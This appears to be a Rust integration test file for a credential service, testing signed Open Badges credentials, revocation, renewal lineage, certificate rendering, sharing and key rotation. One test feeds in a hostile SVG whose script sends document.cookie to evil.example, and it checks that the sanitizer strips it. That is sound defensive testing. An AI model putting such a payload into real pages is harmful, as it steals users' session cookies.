//! Credentials anyone can verify (SPEC §4, §9 "Credentials"): each award as a signed Open
//! Badges 3.0 credential whose proof checks with the key the issuer's did:web document
//! publishes (checked here without the server's help), revocation through the status list,
//! verification by ID (JSON and page, no account) and of a document, renewal lineage, key
//! rotation. On both databases.

#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use recert_credentials::{did, proof, status_list};
use recert_testkit::{StatusCode, TestApp, both_backends, in_ci};
use serde_json::{Value, json};

/// Y1 (one year) earned by completing C1; ana completed it on 2026-06-20, so on
/// 2027-06-15 (today) her certificate is in its renewal window.
async fn seed(app: &TestApp) -> String {
    app.program(json!({"code": "Y1", "name": "Working at height", "description": "Annual safety certification.",
                       "validity": {"count": 1, "unit": "years"},
                       "items": [{"code": "C1", "kind": "course", "assigned_on": "2026-01-01"}]}))
        .await;
    app.post(
        "/api/v1/learners",
        json!({"username": "ana", "legal_name": "Ana Álvarez"}),
    )
    .await
    .expect(StatusCode::CREATED);
    let c = app
        .post("/api/v1/completions", json!({"event_id": "e1", "learner": "ana", "item": "C1", "completed_on": "2026-06-20", "score": 92, "max_score": 100}))
        .await
        .expect(StatusCode::CREATED);
    c["outcomes"][0]["award"].as_str().unwrap().to_owned()
}

/// Ana completes C1 again on 2027-06-10, inside her renewal window: the renewing award.
async fn renew(app: &TestApp) -> String {
    let c = app
        .post(
            "/api/v1/completions",
            json!({"event_id": "e2", "learner": "ana", "item": "C1", "completed_on": "2027-06-10"}),
        )
        .await
        .expect(StatusCode::CREATED);
    c["outcomes"][0]["award"].as_str().unwrap().to_owned()
}

async fn raw_get(app: &TestApp, path: &str) -> reqwest::Response {
    app.client
        .get(format!("{}{path}", app.base))
        .send()
        .await
        .unwrap()
}

async fn public_json(app: &TestApp, path: &str) -> (StatusCode, Value) {
    let res = raw_get(app, path).await;
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn verify_doc(app: &TestApp, doc: &Value) -> Value {
    let res = app
        .client
        .post(format!("{}/api/v1/verify", app.base))
        .json(doc)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    res.json().await.unwrap()
}

fn check<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == name)
        .unwrap()
}

both_backends! {
    async fn a_credential_verifies_with_the_published_key_and_revocation_shows(app) {
        let id = seed(&app).await;
        let res = app.client.get(format!("{}/api/v1/awards/{id}/credential", app.base)).bearer_auth(&app.token).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK);
        assert_eq!(res.headers()["content-type"], "application/vc+ld+json");
        let vc: Value = res.json().await.unwrap();
        assert_eq!(vc["@context"], json!(["https://www.w3.org/ns/credentials/v2", "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"]));
        assert_eq!(vc["type"], json!(["VerifiableCredential", "OpenBadgeCredential"]));
        assert_eq!(vc["id"], format!("{}/verify/{id}", app.base));
        assert_eq!(vc["validFrom"], "2026-06-20T00:00:00Z");
        assert_eq!(vc["validUntil"], "2027-06-20T23:59:59Z");
        assert_eq!(vc["credentialSubject"]["achievement"]["name"], "Working at height");
        assert_eq!(vc["credentialSubject"]["identifier"][0]["identityHash"], "Ana Álvarez");
        assert_eq!(vc["credentialSubject"]["result"][0]["value"], "92%");
        let issuer = vc["issuer"]["id"].as_str().unwrap().to_owned();
        assert!(issuer.starts_with("did:web:127.0.0.1%3A") && issuer.ends_with(":orgs:default"), "{issuer}");
        assert_eq!(vc["proof"][0]["cryptosuite"], "eddsa-rdfc-2022", "the default suite");
        let jcs = app.get(&format!("/api/v1/awards/{id}/credential?suite=eddsa-jcs-2022")).await.expect(StatusCode::OK);
        assert_eq!(jcs["proof"][0]["cryptosuite"], "eddsa-jcs-2022");
        let mut unsigned = jcs.clone();
        unsigned.as_object_mut().unwrap().remove("proof");
        let mut same = vc.clone();
        same.as_object_mut().unwrap().remove("proof");
        assert_eq!(unsigned, same, "the suites sign the same credential");

        // The issuer's DID document is where did:web says, and its key checks the proof
        // (here, without asking the server to verify).
        let url = did::did_url(&issuer, "http").unwrap();
        let path = url.strip_prefix(&app.base).unwrap();
        let (status, did_doc) = public_json(&app, path).await;
        assert_eq!(status, StatusCode::OK, "{did_doc}");
        let method = proof::verification_method(&vc).unwrap();
        let key = did::assertion_key(&did_doc, &method).unwrap();
        proof::verify(&vc, &key).unwrap();
        let mut tampered = vc.clone();
        tampered["credentialSubject"]["identifier"][0]["identityHash"] = json!("Mallory");
        assert!(proof::verify(&tampered, &key).is_err());

        // The server's own check of a document: verified, and the tampered copy is not.
        let report = verify_doc(&app, &vc).await;
        assert_eq!(report["verified"], true, "{report}");
        for c in ["proof", "dates", "status"] {
            assert_eq!(check(&report, c)["ok"], true, "{report}");
        }
        let report = verify_doc(&app, &tampered).await;
        assert_eq!(report["verified"], false);
        assert_eq!(check(&report, "proof")["ok"], false, "{report}");
        // The other suite, too.
        proof::verify(&jcs, &key).unwrap();
        let report = verify_doc(&app, &jcs).await;
        assert_eq!(report["verified"], true, "{report}");
        assert!(check(&report, "proof")["detail"].as_str().unwrap().ends_with("(eddsa-jcs-2022)"), "{report}");

        // Revocation flips the bit in the status list (at once), and verification says so.
        let list_url = vc["credentialStatus"]["statusListCredential"].as_str().unwrap().to_owned();
        let index: u64 = vc["credentialStatus"]["statusListIndex"].as_str().unwrap().parse().unwrap();
        let list_path = list_url.strip_prefix(&app.base).unwrap().to_owned();
        let before = raw_get(&app, &list_path).await;
        let etag = before.headers()["etag"].to_str().unwrap().to_owned();
        let list: Value = before.json().await.unwrap();
        assert!(!status_list::is_set(list["credentialSubject"]["encodedList"].as_str().unwrap(), index).unwrap());
        let unchanged = app.client.get(&list_url).header("if-none-match", &etag).send().await.unwrap();
        assert_eq!(unchanged.status(), StatusCode::NOT_MODIFIED);
        app.post(&format!("/api/v1/awards/{id}/revoke"), json!({"reason": "forged evidence", "category": "misconduct"}))
            .await
            .expect(StatusCode::OK);
        let after = app.client.get(&list_url).header("if-none-match", &etag).send().await.unwrap();
        assert_eq!(after.status(), StatusCode::OK, "a new list, a new tag");
        let list: Value = after.json().await.unwrap();
        assert!(status_list::is_set(list["credentialSubject"]["encodedList"].as_str().unwrap(), index).unwrap());
        proof::verify(&list, &key).unwrap();
        let report = verify_doc(&app, &vc).await;
        assert_eq!(report["verified"], false);
        assert_eq!(check(&report, "status")["detail"], "revoked");

        // By ID, without an account: the category, never the reason.
        let (status, v) = public_json(&app, &format!("/api/v1/verify/{id}")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!((v["status"].as_str(), v["learner_name"].as_str(), v["signature_valid"].as_bool()), (Some("revoked"), Some("Ana Álvarez"), Some(true)), "{v}");
        assert_eq!(v["revocation_category"], "Misconduct");
        assert!(!v.to_string().contains("forged"), "{v}");
        let page = raw_get(&app, &format!("/verify/{id}")).await.text().await.unwrap();
        assert!(page.contains("This certificate was revoked by its issuer.") && page.contains("Misconduct"), "{page}");
        assert!(!page.contains("forged"));
    }
}

/// Validates `doc` against the vendored Open Badges 3.0 JSON Schema with Python's
/// `jsonschema` (Debian `python3-jsonschema`; `.ci/run` installs it): `Ok` or every error.
fn ob3_schema_errors(doc: &Value) -> Result<(), String> {
    let schema = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../recert-credentials/schemas/ob_v3p0_achievementcredential_schema.json");
    let script = "import json,sys\nfrom jsonschema import Draft201909Validator as V\n\
        s=json.load(open(sys.argv[1]))\nd=json.load(sys.stdin)\n\
        errs=[f'{list(e.path)}: {e.message}' for e in V(s).iter_errors(d)]\n\
        print('\\n'.join(errs))\nsys.exit(1 if errs else 0)\n";
    let python = recert_testkit::python_with("jsonschema")
        .expect("python3 with jsonschema (apt-get install python3-jsonschema)");
    let mut child = std::process::Command::new(python)
        .args(["-c", script, schema.to_str().unwrap()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(doc.to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stdout).into_owned())
    }
}

both_backends! {
    async fn credentials_validate_against_the_open_badges_schema(app) {
        let first = seed(&app).await;
        let second = renew(&app).await;
        for id in [&first, &second] {
            let vc = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
            ob3_schema_errors(&vc).unwrap_or_else(|e| panic!("{id}: {e}\n{vc:#}"));
        }
        // The validator does refuse what the schema forbids.
        let vc = app.get(&format!("/api/v1/awards/{first}/credential")).await.expect(StatusCode::OK);
        let mut broken = vc.clone();
        broken["credentialSubject"]["achievement"].as_object_mut().unwrap().remove("criteria");
        assert!(ob3_schema_errors(&broken).is_err());
    }
}

both_backends! {
    async fn renewals_show_their_lineage_and_name_their_predecessor(app) {
        let first = seed(&app).await;
        let second = renew(&app).await;
        let (_, v) = public_json(&app, &format!("/api/v1/verify/{second}")).await;
        assert_eq!(v["status"], "active", "{v}");
        let ids: Vec<&str> = v["lineage"].as_array().unwrap().iter().map(|l| l["id"].as_str().unwrap()).collect();
        assert_eq!(ids, [first.as_str(), second.as_str()]);
        assert_eq!(v["certified_since"], "2026-06-20");
        let page = raw_get(&app, &format!("/verify/{second}")).await.text().await.unwrap();
        assert!(page.contains("Certified continuously since 20 June 2026 (renewed 1 time)."), "{page}");
        assert!(page.contains(&format!("href=\"/verify/{first}\"")), "{page}");
        let vc = app.get(&format!("/api/v1/awards/{second}/credential")).await.expect(StatusCode::OK);
        assert_eq!(vc["evidence"][0]["id"], format!("{}/verify/{first}", app.base));
        // The older one says it was renewed.
        let page = raw_get(&app, &format!("/verify/{first}")).await.text().await.unwrap();
        assert!(page.contains("This certificate was renewed"), "{page}");
        // A chain certifies continuously only while its certificate counts: once revoked,
        // the history is still shown but claims nothing.
        app.post(&format!("/api/v1/awards/{second}/revoke"), json!({"reason": "issued in error", "category": "issued_in_error"}))
            .await
            .expect(StatusCode::OK);
        let (_, v) = public_json(&app, &format!("/api/v1/verify/{second}")).await;
        assert_eq!(v["status"], "revoked", "{v}");
        assert_eq!(v["certified_since"], Value::Null, "{v}");
        assert_eq!(v["lineage"].as_array().map(Vec::len), Some(2), "{v}");
        let page = raw_get(&app, &format!("/verify/{second}")).await.text().await.unwrap();
        assert!(!page.contains("Certified continuously"), "{page}");
        assert!(page.contains("Renewed 1 time. This certificate does not count today"), "{page}");
    }
}

both_backends! {
    async fn certificates_are_a_pdf_with_the_name_as_text_and_a_png_whose_qr_code_is_the_link(app) {
        let id = seed(&app).await;
        let get = |path: String| {
            let (client, token, base) = (app.client.clone(), app.token.clone(), app.base.clone());
            async move { client.get(format!("{base}{path}")).bearer_auth(token).send().await.unwrap() }
        };
        let res = get(format!("/api/v1/awards/{id}/certificate.pdf")).await;
        assert_eq!(res.status(), StatusCode::OK);
        assert_eq!(res.headers()["content-type"], "application/pdf");
        let pdf = res.bytes().await.unwrap();
        assert!(pdf.starts_with(b"%PDF-"));
        // The name is text in the PDF (poppler's pdftotext reads it back).
        match std::process::Command::new("pdftotext").arg("-v").output() {
            Ok(_) => {
                let dir = tempfile::tempdir().unwrap();
                let file = dir.path().join("c.pdf");
                std::fs::write(&file, &pdf).unwrap();
                let out = std::process::Command::new("pdftotext").arg(&file).arg("-").output().unwrap();
                let text = String::from_utf8_lossy(&out.stdout);
                assert!(text.contains("Ana Álvarez") && text.contains("Working at height"), "{text}");
            }
            Err(_) => {
                assert!(!in_ci(), "pdftotext (poppler-utils) is needed in CI; .ci/run installs it");
                eprintln!("skipped: PDF text check (install poppler-utils)");
            }
        }
        let res = get(format!("/api/v1/awards/{id}/certificate.png")).await;
        assert_eq!(res.headers()["content-type"], "image/png");
        let png = res.bytes().await.unwrap();
        assert_eq!(recert_credentials::render::qr_in_png(&png).unwrap(), format!("{}/verify/{id}", app.base));
        let res = get(format!("/api/v1/awards/{id}/certificate.png?scale=2")).await;
        let twice = res.bytes().await.unwrap();
        assert!(twice.len() > png.len());
        app.get(&format!("/api/v1/awards/{id}/certificate.png?scale=9")).await.invalid_field("scale");
        let res = app.client.get(format!("{}/api/v1/awards/{id}/certificate.pdf", app.base)).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
        // The share page shows the image to anyone (and names it for link previews).
        let page = raw_get(&app, &format!("/share/{id}")).await.text().await.unwrap();
        assert!(page.contains(&format!("<meta property=\"og:image\" content=\"{}/share/{id}/certificate.png\">", app.base)), "{page}");
        let res = raw_get(&app, &format!("/share/{id}/certificate.png")).await;
        assert_eq!(res.status(), StatusCode::OK);
    }
}

async fn put_template(
    app: &TestApp,
    code: &str,
    svg: &str,
    content_type: &str,
) -> (StatusCode, Value) {
    let res = app
        .client
        .put(format!("{}/api/v1/programs/{code}/template", app.base))
        .bearer_auth(&app.token)
        .header("content-type", content_type)
        .body(svg.to_owned())
        .send()
        .await
        .unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

both_backends! {
    async fn a_program_draws_with_its_own_template_and_hostile_uploads_are_neutralized(app) {
        let id = seed(&app).await;
        let hostile = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400" onload="alert(1)">
          <script>fetch('https://evil.example/'+document.cookie)</script>
          <image href="https://evil.example/pixel.png" width="1" height="1"/>
          <foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>
          <rect width="600" height="400" fill="#fdf6e3"/>
          <text x="300" y="150" font-size="32" text-anchor="middle">{{ learner_name }}</text>
          <text x="300" y="200" font-size="20" text-anchor="middle">{{ program_name }} · {{ organization }}</text>
          <text x="20" y="380" font-size="10">{{ verify_url }}</text>
          <svg x="440" y="230" width="150" height="150">{{ qr }}</svg>
        </svg>"##;
        let (status, stored) = put_template(&app, "Y1", hostile, "image/svg+xml").await;
        assert_eq!(status, StatusCode::OK, "{stored}");
        let removed = stored["removed"].to_string();
        for what in ["<script>", "onload", "evil.example/pixel.png", "foreignObject"] {
            assert!(removed.contains(what), "{what} in {removed}");
        }
        let res = app.client.get(format!("{}/api/v1/programs/Y1/template", app.base)).bearer_auth(&app.token).send().await.unwrap();
        assert_eq!(res.headers()["content-type"], "image/svg+xml");
        let kept = res.text().await.unwrap();
        assert!(!kept.contains("evil") && !kept.contains("script") && kept.contains("{{ learner_name }}"), "{kept}");
        // Certificates now draw with it: the name in the PDF, the QR code in the PNG.
        let pdf = app.client.get(format!("{}/api/v1/awards/{id}/certificate.pdf", app.base)).bearer_auth(&app.token).send().await.unwrap().bytes().await.unwrap();
        if std::process::Command::new("pdftotext").arg("-v").output().is_ok() {
            let dir = tempfile::tempdir().unwrap();
            let file = dir.path().join("c.pdf");
            std::fs::write(&file, &pdf).unwrap();
            let out = std::process::Command::new("pdftotext").arg(&file).arg("-").output().unwrap();
            let text = String::from_utf8_lossy(&out.stdout);
            assert!(text.contains("Ana Álvarez") && text.contains("Working at height · Test Org"), "{text}");
        }
        let png = app.client.get(format!("{}/api/v1/awards/{id}/certificate.png", app.base)).bearer_auth(&app.token).send().await.unwrap().bytes().await.unwrap();
        assert_eq!(recert_credentials::render::qr_in_png(&png).unwrap(), format!("{}/verify/{id}", app.base));
        let res = app.client.get(format!("{}/api/v1/programs/Y1/template/preview.png", app.base)).bearer_auth(&app.token).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK);
        assert_eq!(res.headers()["content-type"], "image/png");

        // What cannot be made safe is refused, saying why, and changes nothing.
        let huge = r#"<svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000"><text>{{ learner_name }}</text></svg>"#;
        let (status, p) = put_template(&app, "Y1", huge, "image/svg+xml").await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(p.to_string().contains("out of range"), "{p}");
        let (status, p) = put_template(&app, "Y1", "<html/>", "image/svg+xml").await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{p}");
        let (status, _) = put_template(&app, "Y1", hostile, "application/json").await;
        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
        let (status, p) = put_template(&app, "Y1", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">{{ password }}</svg>", "image/svg+xml").await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(p.to_string().contains("unknown placeholder"), "{p}");
        let (status, _) = put_template(&app, "NOPE", hostile, "image/svg+xml").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let still = app.client.get(format!("{}/api/v1/programs/Y1/template", app.base)).bearer_auth(&app.token).send().await.unwrap().text().await.unwrap();
        assert_eq!(still, kept);
    }
}

both_backends! {
    async fn the_program_page_previews_the_certificate_and_edits_its_template(app) {
        seed(&app).await;
        app.account("root", "admin", None, &[]).await;
        let web = app.web_session("root").await;
        let (_, page) = web.get("/programs/Y1").await;
        assert!(page.contains("src=\"/programs/Y1/template/preview.png\""), "{page}");
        assert!(page.contains("{{ learner_name }}"), "the current template to edit from");
        let res = app.client.get(format!("{}/programs/Y1/template/preview.png", app.base))
            .header("cookie", format!("recert_session={}", web.session)).send().await.unwrap();
        assert_eq!(res.headers()["content-type"], "image/png");
        let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400" onclick="x()"><text x="10" y="50">{{ learner_name }}</text></svg>"#;
        let (status, to) = web.post_no_follow("/programs/Y1/template", &[("template", svg)]).await;
        assert_eq!((status, to.as_deref()), (StatusCode::SEE_OTHER, Some("/programs/Y1?done=template-saved&removed=1#template")));
        let (_, page) = web.get("/programs/Y1?done=template-saved&removed=1").await;
        assert!(page.contains("1 unsafe part was removed"), "{page}");
        let (status, page) = web.post("/programs/Y1/template", &[("template", "<svg width=\"99999\" height=\"1\"/>")]).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(recert_testkit::error_beside(&page, "template").unwrap().contains("out of range"), "{page}");
    }
}

both_backends! {
    async fn the_holder_shares_a_certificate_or_turns_its_page_off(app) {
        let id = seed(&app).await;
        let res = raw_get(&app, &format!("/share/{id}")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let page = res.text().await.unwrap();
        assert!(page.contains("<meta property=\"og:title\" content=\"Ana Álvarez holds Working at height\">"), "{page}");
        let linkedin = "https://www.linkedin.com/profile/add?startTask=CERTIFICATION_NAME&#38;name=Working%20at%20height&#38;organizationName=";
        assert!(page.contains(linkedin), "{page}");
        for part in ["issueYear=2026&#38;issueMonth=6", "expirationYear=2027&#38;expirationMonth=6", &format!("certId={id}"), "certUrl=http%3A%2F%2F127.0.0.1%3A"] {
            assert!(page.contains(part), "{part} in {page}");
        }
        let res = raw_get(&app, &format!("/share/{id}/credential.json")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let vc: Value = serde_json::from_str(&res.text().await.unwrap()).unwrap();
        assert_eq!(verify_doc(&app, &vc).await["verified"], true);

        // Only the holder (or the program's writers) may turn it off; then the page is gone,
        // the verification page stays.
        app.post("/api/v1/learners", json!({"username": "ben", "legal_name": "Ben"})).await.expect(StatusCode::CREATED);
        app.account("ben-user", "learner", Some("ben"), &[]).await;
        let ben = app.web_session("ben-user").await;
        let (status, _) = ben.post(&format!("/awards/{id}/sharing"), &[("on", "0")]).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        app.account("ana-user", "learner", Some("ana"), &[]).await;
        let ana = app.web_session("ana-user").await;
        let (status, to) = ana.post_no_follow(&format!("/awards/{id}/sharing"), &[("on", "0"), ("back", "/my")]).await;
        assert_eq!((status, to.as_deref()), (StatusCode::SEE_OTHER, Some("/my?done=sharing-off")));
        let (_, my) = ana.get("/my?done=sharing-off").await;
        assert!(my.contains("Sharing off") && my.contains("Turn sharing on"), "{my}");
        assert_eq!(raw_get(&app, &format!("/share/{id}")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(raw_get(&app, &format!("/share/{id}/credential.json")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(raw_get(&app, &format!("/verify/{id}")).await.status(), StatusCode::OK);
        let a = app.get(&format!("/api/v1/awards/{id}")).await.expect(StatusCode::OK);
        assert_eq!(a["sharing"], false);
        ana.post(&format!("/awards/{id}/sharing"), &[("on", "1")]).await;
        assert_eq!(raw_get(&app, &format!("/share/{id}")).await.status(), StatusCode::OK);
        let history = app.get(&format!("/api/v1/awards/{id}/history")).await.expect(StatusCode::OK);
        assert!(history.to_string().contains("award.sharing_changed"), "{history}");
    }
}

both_backends! {
    async fn unknown_and_mistyped_ids_and_bad_requests_answer_clearly(app) {
        let id = seed(&app).await;
        // Hyphens and case do not matter.
        let (status, _) = public_json(&app, &format!("/api/v1/verify/{}", id.replace('-', "").to_lowercase())).await;
        assert_eq!(status, StatusCode::OK);
        let mut typo: Vec<char> = id.chars().collect();
        typo[0] = if typo[0] == 'A' { 'B' } else { 'A' };
        let typo: String = typo.into_iter().collect();
        let (status, p) = public_json(&app, &format!("/api/v1/verify/{typo}")).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{p}");
        assert!(p.to_string().contains("check character"), "{p}");
        let res = raw_get(&app, &format!("/verify/{typo}")).await;
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
        // A well-formed ID nobody holds: not found, and nothing about similar ones.
        let (status, p) = public_json(&app, "/api/v1/verify/0000-0000-0000-0000").await;
        assert!(matches!(status, StatusCode::NOT_FOUND | StatusCode::UNPROCESSABLE_ENTITY), "{status} {p}");
        app.get(&format!("/api/v1/awards/{id}/credential?suite=rsa-2048")).await.invalid_field("suite");
        let res = app.client.get(format!("{}/api/v1/awards/{id}/credential", app.base)).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED, "the credential itself needs an account");
        let (status, _) = public_json(&app, "/status/nobody-1").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let (status, _) = public_json(&app, "/orgs/nobody/did.json").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let report = verify_doc(&app, &json!({"issuer": "did:web:elsewhere.example", "validFrom": "2020-01-01T00:00:00Z"})).await;
        assert_eq!(report["verified"], false);
        assert!(check(&report, "proof")["detail"].as_str().unwrap().contains("no proof"), "{report}");
        let res = app.client.post(format!("{}/api/v1/verify", app.base)).body("not json").header("content-type", "application/json").send().await.unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    }
}

both_backends! {
    async fn a_credential_is_signed_once_and_again_when_what_it_says_changes(app) {
        let id = seed(&app).await;
        let first = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        app.set_time("2027-06-16");
        let again = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        assert_eq!(first, again, "nothing changed: the same document");
        app.patch("/api/v1/learners/ana", json!({"legal_name": "Ana Álvarez Ruiz"})).await.expect(StatusCode::OK);
        let renamed = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        assert_eq!(renamed["credentialSubject"]["identifier"][0]["identityHash"], "Ana Álvarez Ruiz");
        assert_ne!(renamed["proof"], first["proof"]);
        let report = verify_doc(&app, &renamed).await;
        assert_eq!(report["verified"], true, "{report}");
    }
}

both_backends! {
    async fn rotated_keys_sign_new_credentials_and_old_ones_still_verify(app) {
        let id = seed(&app).await;
        let old = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        let key_id = app.service.rotate_key(&recert_service::Principal::system(), "default").await.unwrap();
        assert_eq!(key_id, "key-2");
        let new = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        assert!(proof::verification_method(&new).unwrap().ends_with("#key-2"));
        assert!(proof::verification_method(&old).unwrap().ends_with("#key-1"));
        for vc in [&old, &new] {
            let report = verify_doc(&app, vc).await;
            assert_eq!(report["verified"], true, "{report}");
        }
    }
}

both_backends! {
    async fn public_verification_is_rate_limited_per_address(app) {
        let id = seed(&app).await;
        let mut limited = false;
        for _ in 0..130 {
            let res = raw_get(&app, &format!("/api/v1/verify/{id}")).await;
            if res.status() == StatusCode::TOO_MANY_REQUESTS {
                limited = true;
                break;
            }
            assert_eq!(res.status(), StatusCode::OK);
        }
        assert!(limited, "the 121st verification in a minute is refused");
    }
}

/// Runs Digital Bazaar's verifier (`tools/vc-verify`, node) on a credential with the
/// issuer's DID document and the status list given as files: `None` when node or the
/// installed packages are missing outside CI.
fn digital_bazaar_verify(
    vc: &Value,
    did_doc: &Value,
    list: &Value,
    now: &str,
) -> Option<(bool, Value)> {
    let tool = recert_testkit::node_tool("vc-verify")?;
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, v: &Value| {
        let p = dir.path().join(name);
        std::fs::write(&p, v.to_string()).unwrap();
        p.to_str().unwrap().to_owned()
    };
    let (c, d, l) = (
        write("vc.json", vc),
        write("did.json", did_doc),
        write("list.json", list),
    );
    let out = std::process::Command::new("node")
        .current_dir(&tool)
        .args(["verify.mjs", &c, &d, &l, now])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let answer: Value = serde_json::from_str(stdout.lines().last().unwrap_or("null"))
        .unwrap_or_else(|_| {
            panic!(
                "verifier said: {stdout}\n{}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
    Some((out.status.success(), answer))
}

both_backends! {
    async fn credentials_verify_with_digital_bazaar_libraries_offline(app) {
        let id = seed(&app).await;
        let rdfc = app.get(&format!("/api/v1/awards/{id}/credential")).await.expect(StatusCode::OK);
        let jcs = app.get(&format!("/api/v1/awards/{id}/credential?suite=eddsa-jcs-2022")).await.expect(StatusCode::OK);
        let issuer = rdfc["issuer"]["id"].as_str().unwrap();
        let did_path = did::did_url(issuer, "http").unwrap();
        let (_, did_doc) = public_json(&app, did_path.strip_prefix(&app.base).unwrap()).await;
        let list_url = rdfc["credentialStatus"]["statusListCredential"].as_str().unwrap().to_owned();
        let (_, list) = public_json(&app, list_url.strip_prefix(&app.base).unwrap()).await;
        let now = "2027-06-15T12:00:00Z";
        for (suite, vc) in [("eddsa-rdfc-2022", &rdfc), ("eddsa-jcs-2022", &jcs)] {
            assert_eq!(vc["proof"][0]["cryptosuite"], suite);
            let Some((ok, answer)) = digital_bazaar_verify(vc, &did_doc, &list, now) else {
                return;
            };
            assert!(ok && answer["verified"] == true, "{suite}: {answer}");
            // A tampered copy fails.
            let mut tampered = vc.clone();
            tampered["credentialSubject"]["identifier"][0]["identityHash"] = json!("Mallory");
            let (ok, answer) = digital_bazaar_verify(&tampered, &did_doc, &list, now).unwrap();
            assert!(!ok && answer["proof"] == false, "{suite}: {answer}");
        }
        // After revocation, the status list check fails, in both suites.
        app.post(&format!("/api/v1/awards/{id}/revoke"), json!({"reason": "error", "category": "issued_in_error"}))
            .await
            .expect(StatusCode::OK);
        let (_, list) = public_json(&app, list_url.strip_prefix(&app.base).unwrap()).await;
        for vc in [&rdfc, &jcs] {
            let (ok, answer) = digital_bazaar_verify(vc, &did_doc, &list, now).unwrap();
            assert!(!ok && answer["proof"] == true && answer["revoked"] == true, "{answer}");
        }
    }
}

both_backends! {
    async fn verification_holds_up_when_many_ask_at_once(app) {
        // More requests at once than the pool has connections: each must finish without
        // waiting on a second connection another request holds (that starved the pool).
        let id = seed(&app).await;
        let mut tasks = Vec::new();
        for _ in 0..64 {
            let (client, url) = (app.client.clone(), format!("{}/api/v1/verify/{id}", app.base));
            tasks.push(tokio::spawn(async move { client.get(url).send().await.map(|r| r.status()) }));
        }
        for t in tasks {
            assert_eq!(t.await.unwrap().unwrap(), StatusCode::OK);
        }
    }
}
